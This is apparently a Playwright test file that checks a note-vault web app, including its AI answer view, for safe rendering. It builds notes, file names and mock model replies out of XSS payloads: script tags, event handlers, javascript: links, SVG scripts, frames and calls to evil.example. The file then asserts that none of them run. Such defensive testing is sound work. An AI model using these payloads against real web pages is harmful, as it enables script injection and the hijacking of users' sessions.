"""Notes that were written to do harm: whatever is in them, they are only shown."""

from pathlib import Path
from urllib.parse import quote

from playwright.sync_api import Page, expect

from app.tests.web.browser.conftest import OpenPage
from app.tests.web.browser.serving import Watched, indexed, own_settings, serving
from app.tests.web.browser.test_browser_ask import ask, sayer, talk_of
from app.tests.web.browser.test_browser_looks import fits
from app.vault.client import VaultClient

OWN = "window.owned = 1; document.title = 'owned'; alert('owned')"
HOSTILE = {
    "Script.md": f"# Script\n\n<script>{OWN}</script>\n\n<script src='http://evil.example/x.js'></script>\n\nzebra",
    "Handlers.md": (
        f'# Handlers\n\n<img src=x onerror="{OWN}">\n<body onload="{OWN}">\n<details open ontoggle="{OWN}">x</details>\n\n'
        f'<input autofocus onfocus="{OWN}"> <a href="#" onmouseover="{OWN}">over</a> zebra'
    ),
    "Links.md": (
        "# Links\n\n[one](javascript:alert(1)) [two](JaVaScRiPt&#58;alert(1)) <javascript:alert(1)>\n"
        "[three](data:text/html,<script>alert(1)</script>) [[javascript:alert(1)]] [four](vbscript:x)\n"
        "<a href=' javascript:alert(1)'>five</a> ![[javascript:alert(1)]] zebra\n"
    ),
    "Svg.md": (
        f'# Svg\n\n<svg onload="{OWN}"><script>{OWN}</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>\n\n'
        "![[evil.svg]] ![x](evil.svg) zebra\n"
    ),
    "evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{OWN}</script></svg>',
    "evil.html": f"<script>{OWN}</script>",
    "Frames.md": (
        "# Frames\n\n<iframe srcdoc='<script>parent.owned=1</script>'></iframe><iframe src='evil.html'></iframe>\n"
        "<object data='evil.svg'></object><embed src='evil.svg'><base href='http://evil.example/'>\n"
        "<meta http-equiv=refresh content='0;url=http://evil.example/'><form action='http://evil.example/'><button>x</button></form>\n"
        "<link rel=stylesheet href='http://evil.example/x.css'><style>body{display:none}</style>\n"
        "![](http://evil.example/pixel.png) <p style='position:fixed;inset:0'>over</p> zebra\n"
    ),
    "Clobber.md": "# Clobber\n\n<form id=search><input name=q></form><img name=getElementById id=theme> zebra\n",
    "Table.md": "# Table\n\n" + "| a " * 150 + "|\n" + "| - " * 150 + "|\n" + ("| zebra " * 150 + "|\n") * 20,
    "Deep.md": "# Deep\n\n" + "> " * 12 + "zebra\n\n" + "> " * 400 + "low\n\n" + "- " * 300 + "low\n",
    "Wide.md": "# Wide\n\n" + "W" * 20_000 + " zebra\n\n```\n" + "x" * 5000 + "\n```\n",
    "Mermaid.md": f"# Mermaid\n\n```mermaid\ngraph TD\nA[\"<img src=x onerror={OWN!r}>\"]\n```\n\n$\\href{{javascript:alert(1)}}{{x}}$ zebra\n",
    "<img src=x onerror=alert(1)>.md": '---\ntags: ["<script>alert(1)</script>"]\nkey: "<img src=x onerror=alert(1)>"\n---\n# <svg onload=alert(1)> zebra\n',
}  # fmt: skip
NOTES = [name for name in HOSTILE if name.endswith(".md")]
LONG = "W" * 250
NAMED: dict[str, str | dict[str, str]] = {
    "<img src=x onerror=owned=1>.md": "---\ntags: ['<script>owned=1</script>', \"' onload='owned=1\"]\n---\n[[\u202eevil]]",
    # A folder that ends with "<" makes the path hold a closing tag.
    "a<": {"script><svg onload=owned=1>.md": "#x/y [[<b onmouseover=owned=1>not written]]"},
    "\"'><img src=x onerror=owned=1>": {"\"onfocus=\"owned=1\" autofocus=\".md": "#tag&lt;"},
    "\u202eevil.md": "---\naliases: ['<script>owned=1</script>', '\u202e']\n---\n#rtl",
    "bell\x07 escape\x1b[31m line\u2028.md": "#control",
    "javascript:owned=1.md": f"[[{LONG}]] [[javascript:owned=2]]",
    "#hash ?query&amp;%00%2e%2e.md": "",
    f"{LONG}.md": "[[<img src=x onerror=owned=1>]] [[a<" + "/script><svg onload=owned=1>]]",
    f"{'é' * 120}.md": "",
    "{{ 7 * 7 }} ${owned=1} __proto__.md": "",
    "constructor.md": "[[__proto__]]",
    "__proto__.md": "#__proto__ #constructor",
}  # fmt: skip
"""Notes whose names, folders and tags would do harm; where a folder stands, what is in it."""


SAID = (
    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">\n\n",
    "![](http://tracker.example/seen.png) [a](javascript:alert(1)) [b](data:text/html,x)\n\n",
    "<svg onload=alert(1)></svg> [c](https://example.org/) **end**\n\n",
    *(f"- `{name}` lines 1-3\n" for name in NOTES if "<" not in name),
)


def write_all(root: Path) -> None:
    """Write the notes of both kinds; those of hostile names link to a hub."""
    root.mkdir()
    for name, text in HOSTILE.items():
        (root / name).write_text(text, encoding="utf-8")
    for name, held in NAMED.items():
        for inner, text in held.items() if isinstance(held, dict) else [("", held)]:
            file = root / name / inner if inner else root / name
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(f"{text}\n[[Hub]]", encoding="utf-8")
    (root / "Hub.md").touch()


def assert_harmless(page: Page, what: str) -> None:
    """Nothing ran, nothing could: no element that acts, no handler, no address that runs, no frame but our own."""
    assert page.evaluate("window.owned ?? null") is None, what
    assert page.title() != "owned", what
    acting = ":is(script, object, embed, base, meta, style)"
    assert page.locator(f"main {acting}, .note form, .note input:not([type=checkbox])").count() == 0, what
    assert page.locator("main [style*='fixed']").count() == 0, what
    assert page.evaluate(
        "[...document.querySelectorAll('main *')].flatMap(e => [...e.attributes])"
        ".filter(a => a.name.startsWith('on')).length"
    ) == 0, what  # fmt: skip
    # The one frame draws diagrams and has no origin.
    for frame in page.locator("main iframe").all():
        assert (frame.get_attribute("src"), frame.get_attribute("sandbox")) == ("/diagram", "allow-scripts")
    addresses = page.locator("main a[href]").evaluate_all(
        "all => all.map(a => new URL(a.getAttribute('href'), location.href).protocol)"
    )
    assert set(addresses) <= {"http:", "https:", "obsidian:", "mailto:"}, what
    sources = page.locator("main img[src]").evaluate_all("all => all.map(a => a.src)")
    assert all(source.startswith(("http://127.0.0.1:", "data:")) for source in sources), what
    assert fits(page), what


def test_whatever_is_in_notes_in_names_and_in_what_a_model_says_is_shown_and_does_nothing(
    tmp_path: Path, open_page: OpenPage, watched: Watched
) -> None:
    """One page after the other; what was asked of other machines or alerted fails afterwards."""
    write_all(tmp_path / "vault")
    vault = indexed(VaultClient(tmp_path / "vault", own_settings(tmp_path)))
    with serving(vault) as hostile:
        page = open_page(hostile, "/?q=zebra", viewport={"width": 390, "height": 800})
        assert page.locator("[data-result]").count() >= 5
        assert_harmless(page, "results")
        for name in NOTES:
            page.goto(f"/note/{quote(name)}")
            assert "zebra" in page.locator(".note").inner_text(), name
            page.locator(".note").hover(position={"x": 5, "y": 5})
            assert_harmless(page, name)
        page.goto("/note/Mermaid.md")
        drawn = page.frame_locator("iframe.diagram").locator("#place")
        expect(drawn.locator("svg")).to_be_visible()
        assert drawn.evaluate("() => [window.owned ?? null, window.origin]") == [None, "null"]
        assert drawn.locator("img[onerror], script, a[href^=javascript]").count() == 0

        names = [path for path in vault.scan().notes if path not in HOSTILE]
        for path in names:
            page.goto(f"/around/{quote(path)}")
            assert_harmless(page, path)
        page.goto("/around/Hub.md")
        titles = page.locator(".around a title").all_text_contents()
        assert sorted(titles) == sorted(path for path in names if path != "Hub.md")

        page.goto("/ask")
        ask(page, "Where is the zebra?")
        expect(page.locator(".answer")).to_be_visible()
        assert page.locator(".turn :is(img, svg, iframe)").count() == 0
        assert_harmless(page, "an answer from the notes")
        page.get_by_role("button", name="Start afresh").click()
        talk_of(hostile).chat_model = sayer(*SAID)
        ask(page, "<b onclick=alert(1)>hello</b>")
        page.locator(".sources").wait_for()
        assert page.locator(".turn :is(img, svg, iframe)").count() == 0
        assert page.locator(".question").inner_text().endswith("<b onclick=alert(1)>hello</b>")
        # As in a note, a picture from elsewhere is a link, which asks for nothing by itself.
        outside = page.locator(".answer a:not(.cite)").evaluate_all("all => all.map(a => a.href)")
        assert {"http://tracker.example/seen.png", "https://example.org/"} <= {*outside}
        for cite in page.locator(".answer .cite").all():
            cite.hover()
        page.reload()
        assert_harmless(page, "what a model said")

        for name in ("evil.svg", "evil.html"):
            page.goto("/ask")
            with page.expect_request(f"**/file/{name}"):
                page.evaluate("address => { location.href = address }", f"/file/{name}")
            page.wait_for_timeout(150)
            assert page.evaluate("window.owned ?? null") is None
            assert page.title() != "owned"
    # A browser says what it blocked: the picture that a diagram asks for, the script of a file.
    blocked = ("Content Security Policy", "Blocked script execution")
    assert [said for said in watched.complaints if not any(why in said for why in blocked)] == []
    watched.complaints.clear()
